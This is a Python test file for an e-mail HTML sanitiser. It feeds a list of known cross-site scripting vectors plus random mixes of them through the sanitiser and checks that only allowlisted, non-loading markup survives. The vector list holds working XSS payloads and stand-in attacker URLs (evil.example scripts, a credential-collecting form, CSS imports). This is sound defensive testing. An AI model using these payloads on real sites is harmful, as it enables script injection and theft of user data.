"""Safe HTML (issue 16, item 7): whatever HTML goes in, what comes out has only allowlisted
tags and attributes, no event handler, no script or style content and no URL that runs code or
loads something from elsewhere; what e-mail needs (formatting, tables, links, cid: images)
stays. Checked with an independent parser (``html.parser``) on generated hostile input."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from contos_messaging.domain.html import ALLOWED_STYLE_PROPERTIES, ALLOWED_TAGS, safe_html

VECTORS = [
    "<script>alert('x')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="https://tracker.example/pixel.gif">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<a href="javascript:alert(1)">klik</a>',
    '<a href="  JaVaScRiPt:alert(1)">klik</a>',
    '<a href="java&#x09;script:alert(1)">klik</a>',
    '<a href="vbscript:msgbox(1)">klik</a>',
    '<a href="data:text/html,<script>alert(1)</script>">klik</a>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    "<object data=x></object><embed src=x>",
    '<form action="https://evil.example"><input name=heslo><button>OK</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css); p{color:red}</style>",
    '<p style="background:url(https://evil.example/x.png);color:red">text</p>',
    '<p style="list-style:url(https://evil.example/x.png)">text</p>',
    '<div style="behavior:url(x.htc);-moz-binding:url(x.xml)">text</div>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<p>Dobrý den, <b>paní Nováková</b></p>",
    '<table border=1><tr><td colspan=2 style="padding:4px">Provize</td></tr></table>',
    '<a href="https://contos.example.cz/smlouva/7">smlouva</a>',
    '<img src="cid:logo@contos" alt="logo">',
    "<font color=red face=Arial>x</font>",
    "<",
    "</p>",
    "<p",
    "\"'><",
]


class _Seen(HTMLParser):
    """Every tag, attribute and text an HTML parser finds."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text: list[str] = []
        self.css: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        (self.css if self._in_style else self.text).append(data)


def _parsed(html: str) -> _Seen:
    seen = _Seen()
    seen.feed(html)
    seen.close()
    return seen


def _assert_safe(clean: str) -> None:
    seen = _parsed(clean)
    assert set(seen.tags) <= ALLOWED_TAGS | {"style"}, seen.tags
    assert seen.tags.count("style") <= 1
    if "style" in seen.tags:
        assert seen.tags[0] == "style"  # (one sanitised block, first)
    css = "".join(seen.css).lower()
    for loader in ("url(", "@import", "expression", "behavior", "binding", "\\", "image("):
        assert loader not in css, css
    for tag, name, value in seen.attributes:
        assert not name.startswith("on"), (tag, name)
        lowered = "".join(value.split()).lower()
        if name in {"href", "src", "cite"}:
            assert not lowered.startswith(("javascript:", "vbscript:", "data:")), value
        if tag == "img" and name == "src":
            assert lowered.startswith("cid:"), value
        if name == "style":
            assert "url(" not in lowered, value
            assert "expression(" not in lowered, value
            properties = {part.split(":")[0].strip() for part in value.split(";") if part}
            assert properties <= ALLOWED_STYLE_PROPERTIES, value
    assert "<script" not in clean.lower()


@pytest.mark.parametrize("vector", VECTORS)
def test_each_known_vector_comes_out_safe(vector: str) -> None:
    _assert_safe(safe_html(vector))


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.one_of(st.sampled_from(VECTORS), st.text(max_size=20), st.sampled_from(["<", ">"])),
        max_size=8,
    )
)
def test_any_mix_of_vectors_and_text_comes_out_safe(parts: list[str]) -> None:
    clean = safe_html("".join(parts))
    _assert_safe(clean)
    assert safe_html(clean) == clean  # (sanitising twice changes nothing)


def test_what_email_needs_stays() -> None:
    html = (
        '<p style="color:#333;font-family:Arial">Dobrý den, <b>paní</b> <i>Nováková</i>,</p>'
        '<table border="1" cellpadding="2"><tbody><tr><td colspan="2" align="right">'
        "1 234 Kč</td></tr></tbody></table>"
        '<a href="https://contos.example.cz/s/7" rel="noopener noreferrer">smlouva</a>'
        '<img src="cid:logo@contos" alt="logo"><ul><li>jedna</li></ul><br>'
    )
    assert safe_html(html) == html


def test_remote_images_stay_only_when_allowed() -> None:
    pixel = '<img src="https://tracker.example/p.gif">'
    assert safe_html(pixel) == "<img>"
    assert safe_html(pixel, remote_images=True) == pixel
    assert safe_html('<img src="javascript:alert(1)">', remote_images=True) == "<img>"


def test_scripts_go_with_their_content_and_style_sheets_without_what_loads() -> None:
    clean = safe_html("<p>a</p><script>var tajne = 1;</script><p>b</p>")
    assert clean == "<p>a</p><p>b</p>"
    document = (
        "<html><head><meta charset=utf-8><title>Vyúčtování</title><style>"
        "body{font-family:Arial} .castka{background:url(https://t.example/p.png);color:red}"
        "@import url(https://t.example/x.css); @font-face{src:url(https://t.example/f)}"
        '</style></head><body><p class="castka">1 234 Kč</p></body></html>'
    )
    assert safe_html(document) == (
        '<style>body{font-family:Arial} .castka{color:red}</style><p class="castka">1 234 Kč</p>'
    )
    assert safe_html("<style>p{color:\\72 ed}</style><p>x</p>") == "<p>x</p>"
